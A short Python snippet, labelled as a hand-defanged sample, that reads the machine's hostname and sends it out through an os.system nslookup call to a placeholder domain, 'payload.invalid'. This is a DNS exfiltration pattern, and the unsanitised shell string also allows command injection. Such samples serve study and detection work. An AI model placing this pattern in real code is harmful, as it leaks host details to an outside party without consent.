# Defanged sample: nothing here is reached or run; defanged by hand.
import os, socket
name = socket.gethostname()
os.system('nslookup %s.payload.invalid' % name)
